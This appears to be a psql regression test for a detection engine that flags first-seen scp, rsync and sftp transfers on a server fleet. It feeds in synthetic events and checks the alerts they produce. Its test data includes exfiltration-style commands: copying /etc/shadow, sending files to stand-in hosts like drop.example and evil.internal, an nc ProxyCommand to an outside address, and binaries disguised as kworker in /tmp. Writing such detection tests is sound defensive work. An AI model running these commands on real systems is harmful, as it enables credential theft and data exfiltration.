-- What each space of the shipped rules takes for new, and what not; what is inside and outside; what goes with a rule.
\set ON_ERROR_ROLLBACK on
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
\set rule '''first-seen-file-transfer'''
CREATE FUNCTION pg_temp.launch(at timestamptz, host text, command text, parent text DEFAULT '/usr/sbin/cron', executable text DEFAULT NULL, ip inet DEFAULT NULL, merged boolean DEFAULT false)
RETURNS void LANGUAGE sql AS $$
	INSERT INTO transfer_detect.events (timestamp, agent_id, host_name, host_os_type, host_ip, event_type, event_action, process_name,
		process_executable, process_args, process_command_line, process_parent_executable)
	VALUES (at, 'agent of ' || host, host, 'linux', ARRAY[ip, '127.0.0.1', 'fe80::1'], CASE WHEN merged THEN '{start,end}'::text[] ELSE '{start}' END,
		CASE WHEN merged THEN '{fork,exec,end}'::text[] ELSE '{exec}' END, split_part(command, ' ', 1),
		coalesce(executable, '/usr/bin/' || split_part(command, ' ', 1)), string_to_array(command, ' '), command, parent)
$$;
-- what a command makes now: the spaces and keys that are new
CREATE PROCEDURE pg_temp.tries(at timestamptz, host text, VARIADIC commands text[]) LANGUAGE plpgsql AS $$
DECLARE
	command text;
	found record;
BEGIN
	FOREACH command IN ARRAY commands LOOP
		PERFORM pg_temp.launch(at, host, command);
		PERFORM FROM transfer_detect.backfill('first-seen-file-transfer', at - interval '30 minutes', at + interval '30 minutes');
		FOR found IN SELECT unnest(reasons) AS reason FROM transfer_detect.alerts WHERE status = 'open' LOOP
			RAISE NOTICE '%: %', command, found.reason;
		END LOOP;
		UPDATE transfer_detect.alerts SET status = 'closed', close_reason = 'benign' WHERE status = 'open';
	END LOOP;
END
$$;
-- a fleet, of which some hosts have names that look like numbers
SELECT pg_temp.launch('2026-11-10 03:00Z', h.name, 'rsync -a /srv/ nas-1.corp.example:/in', ip => h.ip)
FROM (VALUES ('web-1.corp.example', '10.1.0.1'::inet), ('web-2.corp.example', '10.1.0.2'), ('db06.corp.example', '8.8.4.4'), ('cafe.corp.example', '10.1.0.4')) AS h(name, ip);
SELECT pg_temp.launch('2026-11-10 03:00Z', 'web-1.corp.example', c) FROM unnest('{scp a backup@nas-1.corp.example:,scp a localhost:}'::text[]) AS c;
SELECT * FROM learn(:rule, '2026-11-10', '2026-11-20');
SELECT name, addresses, role FROM fleet_hosts ORDER BY name;

-- hosts of ours by their names are nothing new, by their addresses they are
CALL pg_temp.tries('2026-11-20 03:00Z', 'web-1.corp.example', 'scp a db06:', 'scp a cafe:', 'scp a cafe.corp.example:', 'scp a web-2:', 'scp a localhost:');
CALL pg_temp.tries('2026-11-20 04:00Z', 'web-1.corp.example', 'scp a 10.9.0.7:', 'scp a 10.9.0.7:', 'scp a 0xa090008:', 'scp a 168361993:', 'scp a [fd00::7]:');
-- the address of a host of ours is inside, though it is a public one
SELECT a.address, remote_class(a.address, 'web-1.corp.example') FROM unnest('{8.8.4.4,8.8.8.8,10.1.0.2,localhost,web-1,db06,nobody,nobody.corp.example,nobody.example,corp.example.net,fd00::9,2001:db8::9}'::text[]) AS a(address);
-- a name without a domain that the fleet does not know: ssh_config may make it anything, so it is new for the role, once
CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a jump:', 'scp a jump:');
CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a jump:');
-- nor does a domain that anybody may use make a name known
CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a u@evil.internal:', 'scp a u@evil.internal:', 'scp a u@web-2.internal:');
CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a u@EVIL.internal:', 'scp a u@evil.local:');
-- outside, for each host
CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
CALL pg_temp.tries('2026-11-20 06:05Z', 'web-2.corp.example', 'scp a u@drop.example:');
-- ways to a host of ours: an outside host on the way is new, one of ours is not
CALL pg_temp.tries('2026-11-20 06:10Z', 'web-1.corp.example', 'scp -J web-2.corp.example,jump a nas-1.corp.example:', 'scp -J web-2,e@203.0.113.11 a nas-1.corp.example:', 'scp -J 203.0.113.11 a nas-1.corp.example:',
	'scp -oProxyJump=hop.example a nas-1.corp.example:', 'sftp -J hop2.example nas-1.corp.example', 'scp nas-1.corp.example:a 203.0.113.13:b .');
SELECT pg_temp.launch('2026-11-20 06:40Z', 'web-2.corp.example', 'scp -o ProxyCommand=nc a nas-1.corp.example:');
UPDATE events SET process_args = '{scp,-o,ProxyCommand=nc 203.0.113.9 443,a,nas-1.corp.example:}' WHERE timestamp = '2026-11-20 06:40Z';
CALL pg_temp.tries('2026-11-20 06:41Z', 'web-2.corp.example', 'scp a nas-1.corp.example:');
-- another program than ssh, and a secret that goes from one host of ours to another
CALL pg_temp.tries('2026-11-20 06:20Z', 'web-1.corp.example', 'scp -S /tmp/ssh a nas-1.corp.example:', 'scp -S /tmp/ssh a nas-1.corp.example:', 'rsync -e /dev/shm/x a nas-1.corp.example:', 'scp -3 web-2.corp.example:/etc/shadow nas-1.corp.example:');
-- what cannot be taken apart is new once, and for a role; what is only short is not
CALL pg_temp.tries('2026-11-20 06:30Z', 'web-1.corp.example', 'scp nas-1.corp.example:a', 'scp nas-1.corp.example:a', 'rsync -a --nonsense', 'rsync -a one:a two:b', 'scp');
CALL pg_temp.tries('2026-11-20 06:30Z', 'web-2.corp.example', 'scp nas-1.corp.example:a', 'scp web-1:b');
-- a host that calls itself otherwise makes that domain no inside for others
SELECT pg_temp.launch('2026-11-20 06:50Z', 'web-9.evil.example', 'rsync -a /srv/ nas-1.corp.example:/in');
CALL pg_temp.tries('2026-11-20 06:51Z', 'web-1.corp.example', 'scp a u@drop.evil.example:');
-- servers, both ways of sending
CALL pg_temp.tries('2026-11-20 07:00Z', 'db06.corp.example', 'scp -f /etc/shadow', 'scp -t /srv', 'rsync --daemon', 'vsftpd /etc/vsftpd.conf', 'rsync --server --sender -logDtpr . /srv/');
-- arguments in their order, also where the line says less: the remote host is the last
SELECT (SELECT esql FROM esql('FROM logs-endpoint.events.process-* | WHERE process.command_line == "scp a u@drop.example:" | KEEP transfer.remote_host, transfer.local_paths | LIMIT 1'));

-- ssh that carries a transfer for a parent that is none of the utilities: a renamed program
SELECT pg_temp.launch('2026-11-10 03:00Z', 'web-' || h || '.corp.example', 'ssh -x -l u nas-1.corp.example scp -t /in', '/usr/bin/scp') FROM generate_series(1, 2) AS h;
SELECT * FROM learn('first-seen-transfer-by-ssh', '2026-11-10', '2026-11-20');
SELECT pg_temp.launch('2026-11-20 03:01Z', 'web-1.corp.example', 'ssh -x -oForwardAgent=no -l u 203.0.113.9 scp -t /in', '/usr/bin/scp'),
	pg_temp.launch('2026-11-20 03:02Z', 'web-1.corp.example', 'ssh -x -oForwardAgent=no -l u -s -- 203.0.113.9 sftp', '/tmp/.cache/kworker'),
	pg_temp.launch('2026-11-20 03:03Z', 'web-2.corp.example', 'ssh -l u 203.0.113.9 rsync --server -logDtpre.iLsfxCIvu . /in', '/usr/local/bin/updater', merged => true),
	pg_temp.launch('2026-11-20 03:04Z', 'web-2.corp.example', 'ssh u@203.0.113.9 uptime', '/tmp/.cache/kworker');
SELECT alerts_created FROM backfill('first-seen-transfer-by-ssh', '2026-11-20 03:00Z', '2026-11-20 04:00Z');
SELECT host_names, unnest(reasons) AS reason FROM alerts WHERE rule_id = 'first-seen-transfer-by-ssh' ORDER BY id;

-- an event without host.name has host.hostname, or its agent at least
INSERT INTO events (timestamp, agent_id, host_name, host_hostname, host_os_type, event_type, event_action, process_name, process_executable, process_command_line, process_parent_executable)
SELECT '2026-11-20 09:10Z', h.agent, h.name, h.hostname, 'linux', '{start}', '{exec}', 'scp', '/usr/bin/scp', h.command, '/usr/sbin/cron'
FROM (VALUES ('a', NULL, 'web-3', 'scp a u@198.51.100.77:'), ('b', 'web-4.corp.example', 'web-4', 'scp a u@198.51.100.77:'), ('c', NULL, NULL, 'scp a u@198.51.100.77:'), ('d', NULL, 'web-3', 'scp a u@web-3:'), (NULL, NULL, NULL, 'scp a u@198.51.100.77:')) AS h(agent, name, hostname, command);
SELECT alerts_created FROM backfill(:rule, '2026-11-20 09:00Z', '2026-11-20 10:00Z');
SELECT host_names, agent_ids, unnest(reasons) AS reason FROM alerts WHERE rule_id = :rule AND status = 'open' ORDER BY id;
SELECT name, role FROM fleet_hosts WHERE name LIKE 'web-3%' OR name LIKE 'web-4%' ORDER BY name;
SELECT count(*) AS evidence FROM alerts AS a CROSS JOIN LATERAL alert_events(a.id) AS e WHERE a.rule_id = :rule AND a.status = 'open';

-- an upgrade brings the same program under another path; where anybody may put programs, and under another name, it is another
SELECT p.path, n.name
FROM unnest('{/usr/bin/python3.11,/bin/bash,/usr/sbin/cron,/usr/bin/ksh93,/usr/lib64/ssh/sftp-server,/opt/app1/bin/app,/opt/jdk-17.0.8+7/bin/java,/opt/jdk-21/bin/java,/opt/agent-1.2.4/bin/agent,/opt/agent-1.3/bin/agent,/usr/sbin/php-fpm8.2,/snap/lxd/26200/bin/lxd,/srv/ci/6f1ed002ab5595859014ebf0951522d9/tool,/srv/ci/0b4e1d3a-7c55-4a0e-9a4b-0d6f1c2b3a49/tool,/opt/openssh-9.6p1/bin/scp,/opt/go/v1.22.0/x,/home/ci/runner/bin.2.311.0/Worker,/home/eva/.nvm/versions/node/v18.17.0/bin/node,/home/eva/.cache/x1/kworker2,/tmp/pkg-1.2.4/x,/tmp/.x-1.2/scp,/dev/shm/1.2.4/scp,/var/tmp/20261120/scp,7,""}'::text[]) AS p(path),
	LATERAL (SELECT unnest(program_names(ARRAY[p.path]))) AS n(name);
CREATE FUNCTION pg_temp.runs_by(at timestamptz, parent text, executable text) RETURNS TABLE (reason text) LANGUAGE plpgsql AS $$
BEGIN
	PERFORM pg_temp.launch(at, 'web-1.corp.example', 'scp a nas-1.corp.example:', parent, executable);
	PERFORM FROM transfer_detect.backfill('first-seen-file-transfer', at - interval '30 minutes', at + interval '30 minutes');
	RETURN QUERY SELECT unnest(reasons) FROM transfer_detect.alerts WHERE rule_id = 'first-seen-file-transfer' AND status = 'open';
	UPDATE transfer_detect.alerts SET status = 'closed', close_reason = 'benign' WHERE status = 'open';
END
$$;
UPDATE alerts SET status = 'closed', close_reason = 'benign' WHERE status = 'open';
SELECT n.at, r.reason
FROM (VALUES ('2026-11-20 12:00Z'::timestamptz, '/opt/agent-1.2.4/bin/agent', '/usr/bin/scp'), ('2026-11-20 13:00Z', '/opt/agent-1.3.0/bin/agent', '/bin/scp'), ('2026-11-20 14:00Z', '/opt/agent-1.2.4/bin/other', '/usr/bin/scp'),
		('2026-11-20 15:00Z', '/tmp/agent-1.2.4/agent', '/usr/bin/scp'), ('2026-11-20 16:00Z', '/tmp/agent-1.3.0/agent', '/usr/bin/scp'), ('2026-11-20 17:00Z', '/usr/sbin/cron', '/opt/openssh-9.6p1/bin/scp'),
		('2026-11-20 18:00Z', '/usr/sbin/cron', '/opt/openssh-9.8p1/bin/scp'), ('2026-11-20 19:00Z', '/usr/sbin/cron', '/tmp/9/scp'), ('2026-11-20 20:00Z', '/usr/sbin/cron', '/tmp/10/scp')) AS n(at, parent, executable),
	LATERAL pg_temp.runs_by(n.at, n.parent, n.executable) AS r;

-- sshd starts the other half of a transfer on whatever host; a transfer of its own, and another parent, are new
CREATE FUNCTION pg_temp.starts(at timestamptz, parent text, command text) RETURNS TABLE (reason text) LANGUAGE plpgsql AS $$
BEGIN
	PERFORM pg_temp.launch(at, 'web-1.corp.example', command, parent, '/usr/bin/scp');
	PERFORM FROM transfer_detect.backfill('first-seen-file-transfer', at - interval '30 minutes', at + interval '30 minutes');
	RETURN QUERY SELECT unnest(reasons) FROM transfer_detect.alerts WHERE rule_id = 'first-seen-file-transfer' AND status = 'open';
	UPDATE transfer_detect.alerts SET status = 'closed', close_reason = 'benign' WHERE status = 'open';
END
$$;
SELECT n.at, n.parent, r.reason
FROM (VALUES ('2026-11-20 12:00Z'::timestamptz, '/usr/sbin/sshd', 'scp -t /in'), ('2026-11-20 13:00Z', '/usr/lib/openssh/sshd-session', 'scp -t /in'), ('2026-11-20 14:00Z', '/usr/bin/ruby', 'scp -t /in'),
		('2026-11-20 15:00Z', '/usr/sbin/sshd', 'scp a nas-1.corp.example:'), ('2026-11-20 16:00Z', '/tmp/sshd', 'scp -t /in'), ('2026-11-20 17:00Z', '/usr/sbin/sshd', 'scp -f /srv/x'), ('2026-11-20 18:00Z', '/usr/sbin/sshd', 'scp -f /etc/shadow')) AS n(at, parent, command)
	LEFT JOIN LATERAL pg_temp.starts(n.at, n.parent, n.command) AS r ON true;

-- a tunnel to another port leads somewhere else
CALL pg_temp.tries('2026-11-21 12:00Z', 'web-1.corp.example', 'scp -P 2222 a u@localhost:', 'scp -P 2222 a u@127.0.0.1:', 'scp -P 4422 a u@127.0.0.1:', 'rsync a rsync://localhost:8730/x', 'scp a localhost:');
CALL pg_temp.tries('2026-11-21 12:00Z', 'web-2.corp.example', 'scp -P 2222 a u@localhost:');

-- what goes with a rule that is deleted
INSERT INTO rules (rule_id, name, query) VALUES ('mine', 'Mine', 'FROM logs-endpoint.events.process-* | WHERE transfer.utility == "scp" | KEEP @timestamp, host.name, process.executable');
INSERT INTO habit_spaces (rule_id, space, expressions, scope, reason) VALUES ('mine', 'program', '{process.executable}', 'fleet', 'new: {key}');
SELECT habits > 0 AS learned FROM learn('mine', '2026-11-10', '2026-11-21');
DELETE FROM rules WHERE rule_id = 'mine';
SELECT (SELECT count(*) FROM habit_spaces WHERE rule_id = 'mine'), (SELECT count(*) FROM habits WHERE rule_id = 'mine');
-- an edit of a shipped rule takes its place, and deletes nothing
SELECT count(*) AS spaces FROM habit_spaces WHERE rule_id = :rule \gset
SELECT count(*) AS habits FROM habits WHERE rule_id = :rule \gset
UPDATE rules SET name = 'Another' WHERE rule_id = :rule;
SELECT count(*) = :spaces AS spaces_stay FROM habit_spaces WHERE rule_id = :rule;
SELECT count(*) = :habits AS habits_stay FROM habits WHERE rule_id = :rule;
-- a key has no nulls
\set VERBOSITY terse
SELECT transfer_detect_internal.habit_digest('space', 'web-1', '{NULL}');
ROLLBACK;
